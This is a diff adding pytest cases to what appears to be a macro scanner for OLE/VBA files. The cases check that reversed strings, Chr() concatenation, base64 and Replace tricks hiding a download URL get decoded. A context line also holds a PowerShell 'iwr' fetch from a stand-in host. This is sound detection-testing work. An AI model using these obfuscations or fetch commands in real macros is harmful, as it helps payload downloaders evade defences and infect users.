@@ -29,6 +29,20 @@ def test_an_encoded_command_is_decoded() -> None:
     assert spot_of(found, "iwr https://x.example/a") == "VBA Module1, decoded"
 
 
+@pytest.mark.parametrize(
+    "code",
+    [
+        b'StrReverse("a/elpmaxe.x//:sptth")',
+        b'Chr(104) & Chr(116) & "tps://x.example/a"',
+        b'Decode("' + base64.b64encode(b"https://x.example/a") + b'")',
+        b'Replace("https://x.QQexample/a", "QQ", "")',
+    ],
+)
+def test_simple_disguises_are_undone(code: bytes) -> None:
+    found = read_ole(vba_project({"Module1": b'Attribute VB_Name = "M"\r\nx = ' + code}))
+    assert spot_of(found, "https://x.example/a") == "VBA Module1, decoded"
+
+
 def test_the_source_is_in_the_code_page_of_the_project() -> None:
     source = 'Attribute VB_Name = "M"\r\nMsgBox "Привет"'.encode("cp1251")
     assert 'MsgBox "Привет"' in texts(read_ole(vba_project({"M": source}, 1251)))
